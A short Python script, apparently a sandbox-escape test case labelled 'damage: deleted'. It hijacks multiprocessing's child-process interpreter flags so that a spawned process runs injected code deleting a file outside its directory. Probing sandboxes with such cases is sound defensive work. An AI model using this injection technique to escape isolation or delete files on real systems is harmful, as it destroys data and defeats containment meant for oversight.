# The flags of multiprocessing's children are replaced by code.
# damage: deleted
# needs: linux
import multiprocessing
import multiprocessing.spawn
import subprocess
import sys

code = "import os; os.unlink('../outside/victim.txt')"
subprocess._args_from_interpreter_flags = lambda: ["-I", "-S", "-c", code]
multiprocessing.util._args_from_interpreter_flags = subprocess._args_from_interpreter_flags
process = multiprocessing.get_context("spawn").Process(target=print)
process.start()
process.join()
